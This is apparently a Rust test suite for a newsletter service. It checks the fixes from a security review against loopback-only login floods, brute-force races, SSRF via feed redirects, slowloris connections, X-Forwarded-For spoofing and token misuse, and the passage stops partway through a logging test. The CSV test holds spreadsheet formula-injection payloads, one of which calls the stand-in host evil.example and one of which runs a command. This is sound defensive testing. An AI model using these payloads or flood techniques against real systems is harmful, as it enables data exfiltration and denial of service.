//! The security review's findings (issue 11), each as a test on loopback: floods are
//! bounded in count and time, and no test sends a packet beyond 127.0.0.0/8.

use std::{
    collections::HashMap,
    net::IpAddr,
    path::Path,
    process::{Child, Command, Stdio},
    time::Duration,
};

use breakfast::{domain::Clock, store::users::AdminRole};
use reqwest::{StatusCode, header};

use crate::{
    admin::{Browser, PASSWORD, add_user},
    kit::{Backend, TestApp, TestDb, free_port},
};

/// A browser whose connections come from `source`, another loopback address, so one test
/// can play several clients.
/// The service on SQLite with `toml` added, and an editor, ed@example.org.
async fn with_editor(toml: &str) -> Option<TestApp> {
    let t = TestApp::with_toml(Backend::Sqlite, toml).await?;
    add_user(&t.app, "ed@example.org", AdminRole::Editor).await;
    Some(t)
}

fn browser_from(t: &TestApp, source: &str) -> Browser {
    let http = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .local_address(source.parse::<IpAddr>().ok())
        .build()
        .unwrap();
    Browser {
        base: t.base.clone(),
        http,
        cookies: HashMap::new(),
        last_set_cookies: Vec::new(),
    }
}

/// The login page's CSRF cookie and token, for firing many sign-ins without a browser.
async fn login_csrf(http: &reqwest::Client, base: &str) -> (String, String) {
    let res = http
        .get(format!("{base}/admin/login"))
        .send()
        .await
        .unwrap();
    let cookie = res
        .headers()
        .get_all(header::SET_COOKIE)
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find(|v| v.starts_with("breakfast_login="))
        .and_then(|v| v.split(';').next())
        .expect("a login CSRF cookie")
        .to_string();
    let body = res.text().await.unwrap();
    let marker = r#"name="csrf" value=""#;
    let start = body.find(marker).expect("a CSRF field") + marker.len();
    let token = body[start..].split('"').next().unwrap().to_string();
    (cookie, token)
}

async fn post_login(
    http: &reqwest::Client,
    base: &str,
    csrf: &(String, String),
    email: &str,
    password: &str,
) -> StatusCode {
    http.post(format!("{base}/admin/login"))
        .header(header::COOKIE, &csrf.0)
        .form(&[
            ("csrf", csrf.1.as_str()),
            ("email", email),
            ("password", password),
        ])
        .timeout(Duration::from_secs(120))
        .send()
        .await
        .map(|r| r.status())
        .unwrap_or(StatusCode::REQUEST_TIMEOUT)
}

/// The service's own binary, serving on a loopback port, killed when dropped.
struct Served {
    child: Child,
    base: String,
}

impl Served {
    async fn start(db: &TestDb, env: &[(&str, &str)]) -> Served {
        Self::start_logging(db, env, None).await
    }

    /// As [`Served::start`], with the process's log (stderr) written to `log`.
    async fn start_logging(db: &TestDb, env: &[(&str, &str)], log: Option<&Path>) -> Served {
        let port = free_port();
        let base = format!("http://127.0.0.1:{port}");
        let listen = format!("127.0.0.1:{port}");
        let mut cmd = crate::kit::breakfast_process(
            "serve",
            db,
            &[
                ("BREAKFAST_LISTEN", listen.as_str()),
                ("BREAKFAST_BASE_URL", base.as_str()),
                ("BREAKFAST_INGEST__POLL_MINUTES", "0"),
            ],
        );
        cmd.envs(env.iter().copied());
        if let Some(path) = log {
            cmd.stderr(Stdio::from(std::fs::File::create(path).unwrap()));
        }
        let child = cmd.spawn().expect("breakfast serve starts");
        let served = Served { child, base };
        let http = reqwest::Client::new();
        for _ in 0..300 {
            let up = http
                .get(format!("{}/healthz", served.base))
                .timeout(Duration::from_secs(2))
                .send()
                .await
                .is_ok_and(|r| r.status().is_success());
            if up {
                return served;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        panic!("breakfast serve did not answer /healthz within 30 s");
    }

    /// The process's peak resident memory so far (VmHWM), in bytes.
    /// Signs `email` up through the served process; the answer's status.
    async fn subscribe(&self, email: &str) -> StatusCode {
        let res = reqwest::Client::new()
            .post(format!("{}/subscribe", self.base))
            .form(&[("email", email)])
            .send()
            .await
            .unwrap();
        res.status()
    }

    fn peak_rss(&self) -> u64 {
        let status = std::fs::read_to_string(format!("/proc/{}/status", self.child.id()))
            .expect("/proc status");
        let kb: u64 = status
            .lines()
            .find_map(|l| l.strip_prefix("VmHWM:"))
            .and_then(|v| v.split_whitespace().next())
            .and_then(|v| v.parse().ok())
            .expect("VmHWM in /proc status");
        kb * 1024
    }
}

impl Drop for Served {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Finding 1: a few hundred concurrent sign-ins used to take the process to gigabytes (each
/// runs argon2id with 19 MiB) and starve every other page. Now only a few checks run at
/// once, the rest wait briefly and are answered 503 with Retry-After.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_login_flood_keeps_memory_bounded_and_health_answering() {
    let Some(db) = TestDb::create(Backend::Sqlite).await else {
        return;
    };
    // The per-client budget is off here so that the flood reaches the password checks.
    let served = Served::start(&db, &[("BREAKFAST_ADMIN__LOGIN_PER_MINUTE", "0")]).await;
    let http = reqwest::Client::builder()
        .pool_max_idle_per_host(0)
        .build()
        .unwrap();
    let csrf = login_csrf(&http, &served.base).await;
    let baseline = served.peak_rss();
    let flood: Vec<_> = (0..300)
        .map(|i| {
            let (http, base, csrf) = (http.clone(), served.base.clone(), csrf.clone());
            tokio::spawn(async move {
                // Distinct unknown addresses: each is checked against the dummy hash.
                let res = http
                    .post(format!("{base}/admin/login"))
                    .header(header::COOKIE, &csrf.0)
                    .form(&[
                        ("csrf", csrf.1.as_str()),
                        ("email", &format!("guess{i}@example.org")),
                        ("password", "wrong"),
                    ])
                    .timeout(Duration::from_secs(120))
                    .send()
                    .await
                    .expect("an answer to every sign-in");
                // A refusal says when to come back.
                let status = res.status();
                if status == StatusCode::SERVICE_UNAVAILABLE {
                    assert!(res.headers().contains_key(header::RETRY_AFTER));
                }
                status
            })
        })
        .collect();
    tokio::time::sleep(Duration::from_millis(300)).await;
    for _ in 0..3 {
        let health = http
            .get(format!("{}/healthz", served.base))
            .timeout(Duration::from_secs(15))
            .send()
            .await
            .expect("/healthz answers during the flood");
        assert_eq!(health.status(), StatusCode::OK);
    }
    let mut statuses: HashMap<u16, usize> = HashMap::new();
    for task in flood {
        *statuses.entry(task.await.unwrap().as_u16()).or_default() += 1;
    }
    let peak = served.peak_rss();
    eprintln!(
        "login flood: {statuses:?}, peak RSS {} MiB (baseline {} MiB)",
        peak >> 20,
        baseline >> 20
    );
    assert!(
        statuses.keys().all(|s| [401, 503].contains(s)),
        "{statuses:?}"
    );
    assert!(
        statuses.contains_key(&503),
        "no check was ever refused: {statuses:?}"
    );
    assert!(
        peak < 150 * 1024 * 1024,
        "peak RSS {} MiB (baseline {} MiB) after {statuses:?}",
        peak >> 20,
        baseline >> 20
    );
}

/// Finding 1, the per-client part: one address gets a budget of attempts per minute,
/// spent before any hashing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_client_is_throttled_before_hashing() {
    let Some(t) = TestApp::with_toml(Backend::Sqlite, "[admin]\nlogin_per_minute = 3\n").await
    else {
        return;
    };
    let csrf = login_csrf(&t.http, &t.base).await;
    for i in 0..3 {
        let s = post_login(&t.http, &t.base, &csrf, &format!("a{i}@example.org"), "x").await;
        assert_eq!(s, StatusCode::UNAUTHORIZED);
    }
    let res = t
        .http
        .post(t.url("/admin/login"))
        .header(header::COOKIE, &csrf.0)
        .form(&[
            ("csrf", csrf.1.as_str()),
            ("email", "b@example.org"),
            ("password", "x"),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::TOO_MANY_REQUESTS);
    let retry: u64 = res.headers()[header::RETRY_AFTER]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!((1..=60).contains(&retry), "{retry}");
    // Another client still has its own budget.
    let other = browser_from(&t, "127.0.0.2");
    let csrf2 = login_csrf(&other.http, &t.base).await;
    let s = post_login(&other.http, &t.base, &csrf2, "b@example.org", "x").await;
    assert_eq!(s, StatusCode::UNAUTHORIZED);
    t.stop().await;
}

/// Finding 2: the lock used to be checked before the slow password check, so a burst of
/// 149 wrong guesses got 149 checks (and the right one, in the same burst, a sign-in).
/// Each attempt is now reserved before it is checked: however the burst interleaves, at
/// most `max_failed_logins` passwords are checked (401) and every other answer is a
/// refusal that checked nothing (429); the right password is then refused too. Sixteen
/// checks may run at once, so the guesses really race past the lock's check.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_burst_of_guesses_gets_at_most_max_failed_logins_checks() {
    let Some(t) = with_editor(
        "[admin]\nmax_failed_logins = 5\nlogin_per_minute = 0\nlogin_wait_ms = 60000\nlogin_concurrency = 16\n",
    )
    .await
    else {
        return;
    };
    let csrf = login_csrf(&t.http, &t.base).await;
    let burst: Vec<_> = (0..60)
        .map(|_| {
            let (http, base, csrf) = (t.http.clone(), t.base.clone(), csrf.clone());
            tokio::spawn(async move {
                post_login(&http, &base, &csrf, "ed@example.org", "not the password").await
            })
        })
        .collect();
    let mut statuses: HashMap<u16, usize> = HashMap::new();
    for task in burst {
        *statuses.entry(task.await.unwrap().as_u16()).or_default() += 1;
    }
    assert_eq!(statuses.get(&401), Some(&5), "{statuses:?}");
    assert_eq!(statuses.get(&429), Some(&55), "{statuses:?}");
    let right = post_login(&t.http, &t.base, &csrf, "ed@example.org", PASSWORD).await;
    assert_eq!(right, StatusCode::TOO_MANY_REQUESTS);
    t.stop().await;
}

/// The page without what differs between two otherwise equal answers: the fresh CSRF
/// token and the address echoed in the form.
fn normalised(body: &str, email: &str) -> String {
    let marker = r#"name="csrf" value=""#;
    let mut out = body.replace(email, "EMAIL");
    if let Some(start) = out.find(marker).map(|i| i + marker.len()) {
        let end = start + out[start..].find('"').unwrap_or(0);
        out.replace_range(start..end, "TOKEN");
    }
    out
}

/// Finding 3: a stranger's guesses used to lock the account for everyone, and only real
/// accounts ever answered "locked". Now attempts count per (account, client): the owner,
/// from elsewhere, still signs in, and an unknown address answers exactly like a known one.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_stranger_cannot_lock_out_the_owner_nor_tell_accounts_apart() {
    let Some(t) =
        with_editor("[admin]\nmax_failed_logins = 3\nlockout_minutes = 15\nlogin_per_minute = 0\n")
            .await
    else {
        return;
    };
    let mut stranger = browser_from(&t, "127.0.0.2");
    let mut answers = Vec::new();
    for email in ["ed@example.org", "nobody@example.org"] {
        let mut seen = Vec::new();
        for _ in 0..4 {
            let page = stranger.login(email, "a guess").await;
            seen.push((page.status, normalised(&page.body, email)));
        }
        answers.push(seen);
    }
    let statuses: Vec<_> = answers[0].iter().map(|(s, _)| s.as_u16()).collect();
    assert_eq!(statuses, [401, 401, 401, 429]);
    assert_eq!(
        answers[0], answers[1],
        "known and unknown accounts answer alike"
    );
    assert!(
        answers[0][3].1.contains("locked for 15"),
        "{}",
        answers[0][3].1
    );
    // The owner, from their own address, is not locked out.
    let mut owner = browser_from(&t, "127.0.0.1");
    assert_eq!(
        owner.login("ed@example.org", PASSWORD).await.status,
        StatusCode::SEE_OTHER
    );
    // The stranger stays locked, even with the right password.
    assert_eq!(
        stranger.login("ed@example.org", PASSWORD).await.status,
        StatusCode::TOO_MANY_REQUESTS
    );
    t.stop().await;
}

/// Finding 15: behind a reverse proxy every client shared one bucket, and without one a
/// client could pick its own bucket by writing `X-Forwarded-For`. The header now counts
/// only from `http.trusted_proxies`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forwarded_for_is_believed_only_from_trusted_proxies() {
    for trusted in [true, false] {
        let proxies = if trusted { r#"["127.0.0.1"]"# } else { "[]" };
        let Some(t) = TestApp::spawn_with(
            Backend::Sqlite,
            &format!(
                "[subscribers]\nrate_limit_per_minute = 2\n[http]\ntrusted_proxies = {proxies}\n"
            ),
            Clock::System,
        )
        .await
        else {
            return;
        };
        let signup = |client: &'static str, n: u32| {
            t.http
                .post(t.url("/subscribe"))
                .header("x-forwarded-for", format!("6.6.6.6, {client}"))
                .form(&[("email", format!("r{n}@example.org"))])
                .send()
        };
        for n in 0..2 {
            assert_eq!(signup("203.0.113.1", n).await.unwrap().status(), 200);
        }
        assert_eq!(signup("203.0.113.1", 2).await.unwrap().status(), 429);
        let other = signup("203.0.113.2", 3).await.unwrap().status();
        let expected = if trusted { 200 } else { 429 };
        assert_eq!(other, expected, "trusted proxies: {proxies}");
        t.stop().await;
    }
}

const RSS: &str = r#"<?xml version="1.0"?><rss version="2.0"><channel><title>Intranet</title>
<item><title>Internal salaries</title><link>http://intranet.example/pay</link>
<pubDate>Mon, 01 Jun 2026 06:00:00 GMT</pubDate></item></channel></rss>"#;

/// A loopback server on `addr` answering every path with `RSS`, counting its requests.
async fn counting_feed_server(
    addr: &str,
) -> (String, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    use std::sync::{Arc, atomic::AtomicUsize, atomic::Ordering};
    let hits = Arc::new(AtomicUsize::new(0));
    let counter = hits.clone();
    let app = axum::Router::new().fallback(axum::routing::get(move || {
        counter.fetch_add(1, Ordering::SeqCst);
        async { ([(header::CONTENT_TYPE, "application/rss+xml")], RSS) }
    }));
    let listener = tokio::net::TcpListener::bind(addr).await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    (base, hits)
}

/// Finding 6: a feed on an internal address, or one that redirects there, used to be
/// fetched and its answer stored as an article. The test config allows 127.0.0.1 only;
/// 127.0.0.2 (still loopback, so nothing leaves the machine) plays the internal server.
async fn feeds_never_reach_internal_addresses(backend: Backend) {
    use std::sync::atomic::Ordering;
    let Some(t) = TestApp::spawn(backend).await else {
        return;
    };
    let (internal, hits) = counting_feed_server("127.0.0.2:0").await;
    let to = format!("{internal}/secret.xml");
    let redirector = axum::Router::new().route(
        "/feed.xml",
        axum::routing::get(move || async move { axum::response::Redirect::temporary(&to) }),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let allowed = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, redirector).await.unwrap() });

    let now = t.app.now_ms();
    for url in [
        format!("{allowed}/feed.xml"),
        format!("{internal}/direct.xml"),
    ] {
        let feed = t
            .app
            .store
            .insert_feed(&url, "Sneaky", None, now)
            .await
            .unwrap();
        let report = breakfast::feeds::ingest::fetch_one(&t.app, feed.id)
            .await
            .unwrap();
        let breakfast::feeds::ingest::FeedResult::Failed(why) = &report.result else {
            panic!("{url} was fetched: {:?}", report.result);
        };
        assert!(
            why.contains("refused to fetch from 127.0.0.2"),
            "{url}: {why}"
        );
    }
    assert_eq!(
        hits.load(Ordering::SeqCst),
        0,
        "the internal server was reached"
    );
    assert_eq!(t.app.store.count_articles().await.unwrap(), 0);
    t.stop().await;
}
crate::on_both_databases!(feeds_never_reach_internal_addresses);

/// Reads until the server answers or closes; `None` if it does neither within `within`.
async fn read_answer(stream: &mut tokio::net::TcpStream, within: Duration) -> Option<String> {
    use tokio::io::AsyncReadExt;
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    let read = tokio::time::timeout(within, async {
        loop {
            match stream.read(&mut buf).await {
                Ok(0) | Err(_) => break,
                Ok(n) => got.extend_from_slice(&buf[..n]),
            }
        }
    })
    .await;
    read.ok()
        .map(|()| String::from_utf8_lossy(&got).into_owned())
}

/// Finding 7: a client that never finishes its headers, or its body, used to hold its
/// connection for ever. Both are now cut off.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slow_headers_and_slow_bodies_are_cut_off() {
    use tokio::io::AsyncWriteExt;
    let toml = "[http]\nheader_timeout_secs = 1\nbody_timeout_secs = 1\n";
    let Some(t) = TestApp::with_toml(Backend::Sqlite, toml).await else {
        return;
    };
    let mut slow_headers = tokio::net::TcpStream::connect(t.addr).await.unwrap();
    slow_headers
        .write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
        .await
        .unwrap();
    let answer = read_answer(&mut slow_headers, Duration::from_secs(30)).await;
    assert!(
        answer.is_some(),
        "a connection without its headers stayed open"
    );

    let mut slow_body = tokio::net::TcpStream::connect(t.addr).await.unwrap();
    slow_body
        .write_all(
            b"POST /subscribe HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100\r\n\r\nemail=a",
        )
        .await
        .unwrap();
    let answer = read_answer(&mut slow_body, Duration::from_secs(30)).await;
    let answer = answer.expect("a connection without its body stayed open");
    assert!(!answer.contains(" 500 "), "{answer}");
    // The service still answers everyone else.
    let health = t.http.get(t.url("/healthz")).send().await.unwrap();
    assert_eq!(health.status(), StatusCode::OK);
    t.stop().await;
}

/// The sockets the process holds open, from /proc.
fn open_sockets(pid: u32) -> usize {
    std::fs::read_dir(format!("/proc/{pid}/fd"))
        .map(|dir| {
            dir.filter_map(|e| e.ok())
                .filter(|e| {
                    std::fs::read_link(e.path())
                        .is_ok_and(|l| l.to_string_lossy().starts_with("socket:"))
                })
                .count()
        })
        .unwrap_or(0)
}

/// Finding 7, the connection limit: 3 000 half-open requests used to each hold a socket
/// (and, under a low `ulimit -n`, starve /healthz). Now the process takes at most
/// `http.max_connections` at once; the rest wait in the kernel's backlog, and slow ones
/// are dropped at the header timeout, so /healthz gets its turn.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn half_open_connections_are_bounded_and_health_still_answers() {
    use tokio::io::AsyncWriteExt;
    let Some(db) = TestDb::create(Backend::Sqlite).await else {
        return;
    };
    let served = Served::start(
        &db,
        &[
            ("BREAKFAST_HTTP__MAX_CONNECTIONS", "5"),
            ("BREAKFAST_HTTP__HEADER_TIMEOUT_SECS", "2"),
        ],
    )
    .await;
    let pid = served.child.id();
    // Let the readiness probe's connection close.
    tokio::time::sleep(Duration::from_millis(300)).await;
    let baseline = open_sockets(pid);
    let addr = served.base.trim_start_matches("http://").to_string();
    let mut slow = Vec::new();
    for _ in 0..60 {
        let mut s = tokio::net::TcpStream::connect(&addr).await.unwrap();
        s.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n").await.unwrap();
        slow.push(s);
    }
    let mut most = 0;
    for _ in 0..15 {
        most = most.max(open_sockets(pid).saturating_sub(baseline));
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(most <= 5, "{most} connections taken at once (limit 5)");
    let health = reqwest::Client::new()
        .get(format!("{}/healthz", served.base))
        .timeout(Duration::from_secs(60))
        .send()
        .await
        .expect("/healthz answers despite 60 slow clients");
    assert_eq!(health.status(), StatusCode::OK);
    drop(slow);
}

/// Finding 17: a 413 for a large body often reached the client as a reset connection
/// ("broken pipe"), because the server closed with the body unread. The server now closes
/// its side first and reads on for a moment, so every try gets the 413.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_413_is_read_by_the_client_not_reset() {
    let toml = "[subscribers]\nrate_limit_per_minute = 0\n";
    let Some(t) = TestApp::with_toml(Backend::Sqlite, toml).await else {
        return;
    };
    for i in 0..20 {
        // Chunked, so the size is only found out while reading.
        let chunks =
            futures::stream::iter((0..64).map(|_| Ok::<_, std::io::Error>(vec![b'a'; 8 * 1024])));
        let res = t
            .http
            .post(t.url("/subscribe"))
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
            .body(reqwest::Body::wrap_stream(chunks))
            .send()
            .await;
        match res {
            Ok(r) => assert_eq!(r.status(), StatusCode::PAYLOAD_TOO_LARGE, "try {i}"),
            Err(e) => panic!("try {i}: the client saw {e:?} instead of a 413"),
        }
        let declared = t
            .http
            .post(t.url("/subscribe"))
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
            .body(vec![b'a'; 3 * 1024 * 1024])
            .send()
            .await;
        match declared {
            Ok(r) => assert_eq!(r.status(), StatusCode::PAYLOAD_TOO_LARGE, "try {i}"),
            Err(e) => panic!("try {i}: the client saw {e:?} instead of a 413"),
        }
    }
    t.stop().await;
}

/// Creates a personal API token on the admin's tokens page and returns it.
async fn admin_token(b: &mut Browser, access: &str, expires_days: &str) -> String {
    let csrf = b.get("/admin/tokens").await.csrf();
    let created = b
        .post(
            "/admin/tokens",
            &[
                ("csrf", &csrf),
                ("name", "script"),
                ("access", access),
                ("expires_days", expires_days),
            ],
        )
        .await;
    assert_eq!(created.status, StatusCode::OK, "{}", created.body);
    created
        .body
        .split(r#"<p class="token">"#)
        .nth(1)
        .and_then(|s| s.split('<').next())
        .expect("the new token on the page")
        .to_string()
}

/// Status codes of: list, add (confirmed), change, unsubscribe, erase — with `token`.
async fn api_statuses(t: &TestApp, token: &str, email: &str) -> [u16; 5] {
    let api = t.api(token);
    let list = api.get("/api/subscribers").await.status.as_u16();
    let add = api
        .post_json(
            "/api/subscribers",
            &serde_json::json!({ "email": email, "confirmed": true }),
        )
        .await
        .status
        .as_u16();
    let id = crate::kit::confirmed(&t.app, &format!("target.{email}")).await;
    let one = format!("/api/subscribers/{id}");
    let change = api
        .request(reqwest::Method::PATCH, &one)
        .json(&serde_json::json!({ "time_zone": "Europe/Paris" }))
        .send()
        .await
        .status
        .as_u16();
    let unsubscribe = api
        .post(&format!("{one}/unsubscribe"))
        .await
        .status
        .as_u16();
    let erase = api.delete(&one).await.status.as_u16();
    [list, add, change, unsubscribe, erase]
}

/// Finding 5: an operator's personal token used to create, unsubscribe and erase
/// subscribers through the API, which the web admin forbids operators. A token now acts
/// with its owner's role, and may be read-only.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn api_tokens_carry_their_owners_role_and_may_be_read_only() {
    let Some(t) = TestApp::spawn(Backend::Sqlite).await else {
        return;
    };
    add_user(&t.app, "op@example.org", AdminRole::Operator).await;
    add_user(&t.app, "ed@example.org", AdminRole::Editor).await;
    let mut op = Browser::new(&t);
    op.login("op@example.org", PASSWORD).await;
    let operator_full = admin_token(&mut op, "full", "").await;
    let mut ed = Browser::new(&t);
    ed.login("ed@example.org", PASSWORD).await;
    let editor_read = admin_token(&mut ed, "read", "").await;
    let editor_full = admin_token(&mut ed, "full", "").await;

    assert_eq!(
        api_statuses(&t, &operator_full, "a@example.org").await,
        [200, 403, 403, 403, 403]
    );
    assert_eq!(
        api_statuses(&t, &editor_read, "b@example.org").await,
        [200, 403, 403, 403, 403]
    );
    assert_eq!(
        api_statuses(&t, &editor_full, "c@example.org").await,
        [200, 201, 200, 200, 204]
    );
    let denied = t
        .http
        .post(t.url("/api/subscribers"))
        .bearer_auth(&editor_read)
        .json(&serde_json::json!({ "email": "d@example.org" }))
        .send()
        .await
        .unwrap();
    let body: serde_json::Value = denied.json().await.unwrap();
    assert!(
        body["error"].as_str().unwrap().contains("read-only"),
        "{body}"
    );
    t.stop().await;
}

/// Finding 11: personal tokens never expired and outlived a password change. They may now
/// expire, `users passwd --revoke-tokens` revokes them, and the admin shows their last use.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn api_tokens_expire_show_last_use_and_die_with_passwd() {
    let clock = Clock::manual("2026-06-01T08:00:00Z".parse().unwrap());
    let Some(t) = TestApp::spawn_with(Backend::Sqlite, "", clock.clone()).await else {
        return;
    };
    add_user(&t.app, "ed@example.org", AdminRole::Editor).await;
    let mut ed = Browser::new(&t);
    ed.login("ed@example.org", PASSWORD).await;
    let short = admin_token(&mut ed, "read", "1").await;
    let lasting = admin_token(&mut ed, "read", "").await;
    let get = |token: String| {
        t.http
            .get(t.url("/api/subscribers"))
            .bearer_auth(token)
            .send()
    };
    assert_eq!(get(short.clone()).await.unwrap().status(), 200);
    let page = ed.get("/admin/tokens").await;
    assert!(page.body.contains("read-only"), "{}", page.body);
    // The used token shows when; the other was never used and never expires.
    assert_eq!(
        page.body.matches("<td>never</td>").count(),
        2,
        "one token used, one never used and never expiring: {}",
        page.body
    );
    clock.advance(chrono::Duration::days(2));
    assert_eq!(get(short).await.unwrap().status(), 401);
    assert_eq!(get(lasting.clone()).await.unwrap().status(), 200);

    // A password change with --revoke-tokens ends the rest.
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_breakfast"));
    cmd.args([
        "users",
        "passwd",
        "ed@example.org",
        "--password-stdin",
        "--revoke-tokens",
    ])
    .env_remove("BREAKFAST_CONFIG")
    .env("BREAKFAST_DATABASE_URL", &t.db.url)
    .env("BREAKFAST_SECRET", "test-secret-0123456789")
    .stdin(Stdio::piped())
    .stdout(Stdio::piped())
    .stderr(Stdio::piped());
    let mut child = cmd.spawn().unwrap();
    {
        use std::io::Write;
        let mut stdin = child.stdin.take().unwrap();
        writeln!(stdin, "a brand new password").unwrap();
    }
    let out = child.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    crate::kit::assert_success(&out);
    assert!(stdout.contains("revoked 2 API token"), "{stdout}");
    assert_eq!(get(lasting).await.unwrap().status(), 401);
    t.stop().await;
}

/// Whether any cell of `csv_text` would run as a spreadsheet formula.
fn formula_cells(csv_text: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(csv_text.as_bytes());
    reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .filter(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r']))
        .collect()
}

/// Finding 9: names typed into the public sign-up form came out of the CSV export as
/// live spreadsheet formulas. Every export (admin and CLI) now neutralises them.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_exports_carry_no_spreadsheet_formulas() {
    let Some(t) = TestApp::spawn(Backend::Sqlite).await else {
        return;
    };
    let names = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
    ];
    for (i, name) in names.iter().enumerate() {
        let email = format!("f{i}@example.org");
        let res = t
            .post_form("/subscribe", &[("email", &email), ("name", name)])
            .await;
        assert_eq!(res.status, 200);
    }
    // The sign-up's own work may finish after the answer.
    for _ in 0..100 {
        if t.app.store.count_subscribers(None).await.unwrap() >= names.len() as i64 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    add_user(&t.app, "op@example.org", AdminRole::Operator).await;
    let mut op = Browser::new(&t);
    op.login("op@example.org", PASSWORD).await;
    let admin_csv = op.get("/admin/subscribers/export.csv").await;
    assert_eq!(admin_csv.status, StatusCode::OK);
    assert!(admin_csv.body.contains("SUM(1+1)"), "{}", admin_csv.body);
    assert_eq!(formula_cells(&admin_csv.body), Vec::<String>::new());

    let out = crate::kit::breakfast_cmd(
        &["subscribers", "export"],
        &[
            ("BREAKFAST_DATABASE_URL", t.db.url.as_str()),
            ("BREAKFAST_SECRET", "test-secret-0123456789"),
        ],
        t.db.dir.path(),
    );
    let cli_csv = String::from_utf8_lossy(&out.stdout);
    crate::kit::assert_success(&out);
    assert!(cli_csv.contains("SUM(1+1)"), "{cli_csv}");
    assert_eq!(formula_cells(&cli_csv), Vec::<String>::new());
    t.stop().await;
}

/// Finding 13: a password in a feed's URL was shown in clear on /admin/feeds.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn feed_url_passwords_are_masked_in_the_admin() {
    let Some(t) = TestApp::spawn(Backend::Sqlite).await else {
        return;
    };
    t.app
        .store
        .insert_feed(
            "http://reader:hunter2-secret@127.0.0.1:9/private.xml",
            "Members",
            None,
            t.app.now_ms(),
        )
        .await
        .unwrap();
    add_user(&t.app, "ed@example.org", AdminRole::Editor).await;
    let mut ed = Browser::new(&t);
    ed.login("ed@example.org", PASSWORD).await;
    let page = ed.get("/admin/feeds").await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(
        page.body.contains("reader:***@127.0.0.1:9"),
        "{}",
        page.body
    );
    assert!(!page.body.contains("hunter2"), "{}", page.body);
    t.stop().await;
}

/// Finding 12: the database, its WAL and the outbox's emails (addresses and personal
/// links) were created 0644, readable by every local user. The service's own binary now
/// creates them 0600, folders 0700.
#[cfg(unix)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_database_and_outbox_are_private_files() {
    use std::os::unix::fs::PermissionsExt;
    let Some(db) = TestDb::create(Backend::Sqlite).await else {
        return;
    };
    let served = Served::start(&db, &[]).await;
    assert_eq!(served.subscribe("private@example.org").await, 200);
    let outbox = db.dir.path().join("outbox");
    let mail = crate::kit::wait_for_eml(&outbox, 1, Duration::from_secs(20)).await;
    assert_eq!(mail.len(), 1, "the confirmation email");
    let mode = |p: &std::path::Path| {
        std::fs::metadata(p)
            .unwrap_or_else(|e| panic!("{}: {e}", p.display()))
            .permissions()
            .mode()
            & 0o777
    };
    let db_file = db.dir.path().join("breakfast.db");
    assert_eq!(mode(&db_file), 0o600, "database");
    assert_eq!(mode(&db.dir.path().join("breakfast.db-wal")), 0o600, "WAL");
    assert_eq!(mode(&outbox), 0o700, "outbox folder");
    for entry in std::fs::read_dir(&outbox).unwrap() {
        let path = entry.unwrap().path();
        assert_eq!(mode(&path), 0o600, "{}", path.display());
    }
    drop(served);
}

/// Finding 14: with `RUST_LOG=debug`, dependencies logged the SMTP dialogue (credentials,
/// recipients, whole messages with their links). Wire logs now need their own switch, and
/// the SMTP client logs no line of the dialogue at all. Checked at `trace`, through
/// STARTTLS and AUTH (so the credentials cross the wire), and with a request whose URL
/// carries a token (the HTTP layer logs URIs at debug).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn debug_logging_keeps_the_wire_out() {
    const USER: &str = "relay-user";
    const PASSWORD_ON_THE_WIRE: &str = "s3cret-relay-pw";
    let certs = tempfile::tempdir().unwrap();
    crate::kit::tls::make_certificates(certs.path());
    let Some(smtp) = crate::kit::SmtpServer::start(crate::kit::SmtpBehaviour {
        tls_dir: Some(certs.path().to_path_buf()),
        auth: Some(format!("{USER}:{PASSWORD_ON_THE_WIRE}")),
        pipelining: true,
        ..Default::default()
    })
    .await
    else {
        return;
    };
    let Some(db) = TestDb::create(Backend::Sqlite).await else {
        return;
    };
    let log = db.dir.path().join("serve.log");
    let smtp_url = format!(
        "smtp://{USER}:{PASSWORD_ON_THE_WIRE}@127.0.0.1:{}",
        smtp.port
    );
